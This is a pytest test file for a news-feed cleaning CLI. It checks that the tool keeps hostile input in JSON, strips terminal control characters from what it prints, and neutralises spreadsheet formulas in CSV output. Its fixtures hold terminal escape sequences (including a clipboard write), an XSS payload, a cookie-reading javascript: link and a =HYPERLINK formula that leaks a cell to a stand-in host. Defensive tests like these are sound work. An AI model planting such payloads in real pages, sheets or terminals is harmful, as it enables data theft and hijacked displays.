"""Text that wants to be obeyed (row 20): JSON keeps it, a terminal is sent escapes, a cell is no formula."""

from __future__ import annotations

import csv
import json
from typing import TYPE_CHECKING

import pytest
from typer.testing import CliRunner

from syndicate.cli import app
from tests.stories import body

if TYPE_CHECKING:
    from pathlib import Path

CONTROLS = "\x1b]52;c;aGk=\x07\x1b[2J\x9b1m\x7f\u202e\u2066\x00\r\x1c\x85"
OBEYED = {char for char in CONTROLS if not char.isprintable()}
TITLE = f"</script><img src=x onerror=alert(1)>{CONTROLS}"
OUTLET = f'=HYPERLINK("https://lock.example/?"&A1,"Ledger"){CONTROLS}'
NAMES = ("Marrow Lock Ledger", "Northern Harbour Post")
LINK = "javascript:alert(document.cookie)"
PACK = """\
schema = 1
[pack]
name = "lock\\u001b]52;c;aGk=\\u0007"
version = "1"
summary = "\\u001b[2J"
[[rule]]
id = "tide-tables"
kind = "promo"
summary = "Praises \\u001b]52;c;aGk=\\u0007 the \\u009b1m tide \\u202e tables"
text = "Read our tide tables"
match = "anywhere"
action = "trim"
[[rule.accept]]
text = "Read our tide tables"
[[rule.reject]]
text = "Read our tide tables now, \\u001b[2J"
"""


def syndicate(*arguments: object, code: int = 0) -> str:
    """Run the command line; what it says to people holds no character that a terminal obeys."""
    result = CliRunner().invoke(app, list(map(str, arguments)))
    assert result.exit_code == code, result.stderr
    said = result.stderr + result.stdout
    assert [char for char in said if char in OBEYED] == []
    return said


@pytest.fixture(scope="module")
def feed(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Two outlets with the same story, in pages that want to be obeyed, and the rules for them."""
    folder = tmp_path_factory.mktemp("feed")
    (folder / "lock.toml").write_text(PACK)
    story = body(20).replace("\n\n", "</p><p>")
    records: list[dict[str, object]] = [
        {
            "id": f"{at}{CONTROLS}", "outlet": f"{OUTLET}{name}", "url": LINK, "title": TITLE,
            "published": f"2026-01-0{at + 1}",
            "html": f'<html><head><link rel="canonical" href="{LINK}"><meta name="author" content="{CONTROLS}Pell">'
            f"</head><body><article><h1>Gates</h1><p>{CONTROLS}{story}\x1cRead our tide tables\x85</p>"
            f"<p>{story}</p></article></body></html>",
        }
        for at, name in enumerate(NAMES)
    ]  # fmt: skip
    records.append({"id": f"broken{CONTROLS}", "html": 7})
    (folder / "feed.jsonl").write_text("".join(f"{json.dumps(record)}\n" for record in records))
    return folder


@pytest.fixture(scope="module")
def cleaned(feed: Path) -> Path:
    out = feed / "cleaned.jsonl"
    syndicate("clean", feed / "feed.jsonl", "--packs", feed / "lock.toml", "-o", out, code=1)
    return out


def test_json_loses_nothing_of_it(cleaned: Path) -> None:
    first, _ = map(json.loads, cleaned.read_bytes().splitlines())
    assert (first["id"], first["title"], first["outlet"], first["url"]) == (
        f"0{CONTROLS}",
        TITLE,
        f"{OUTLET}{NAMES[0]}",
        LINK,
    )
    assert [removal["text"].strip() for removal in first["removed"]] == ["Read our tide tables"]


def test_a_terminal_is_sent_none_of_it(feed: Path, cleaned: Path) -> None:
    shown = syndicate("explain", feed / "feed.jsonl", "--packs", feed / "lock.toml", code=1)
    assert "\\u001b]52;c;aGk=" in shown
    assert "Read our tide tables" in shown
    assert "\\u001b[2J" in syndicate("match", cleaned, "-o", feed / "out")
    index = feed / "news.db"
    syndicate("index", "add", index, cleaned)
    syndicate("index", "story", index, f"no such \x1b[2J{LINK}", code=1)


@pytest.mark.parametrize("command", ["list", "show", "test", "lint", "stats"])
def test_a_terminal_is_sent_nothing_that_a_rule_file_wants_it_to_obey(feed: Path, command: str) -> None:
    pack = feed / "lock.toml"
    arguments: dict[str, tuple[tuple[object, ...], int]] = {
        "list": (("--packs", pack), 0),
        "show": (("lock\x1b]52;c;aGk=\x07/tide-tables", "--packs", pack), 0),
        "test": ((pack,), 1),
        "lint": ((pack,), 0),
        "stats": ((feed / "feed.jsonl", "--packs", pack), 0),
    }
    told, code = arguments[command]
    syndicate("rules", command, *told, code=code)


def test_no_cell_of_a_table_is_a_formula_and_no_row_is_torn(feed: Path, cleaned: Path) -> None:
    syndicate("match", cleaned, "-o", feed / "tables")
    with (feed / "tables" / "outlets.csv").open(encoding="utf-8-sig", newline="") as file:
        head, *rows = csv.reader(file)
    assert [len(row) for row in rows] == [len(head)] * 2
    assert all(row[0].startswith("'=HYPERLINK(") for row in rows)
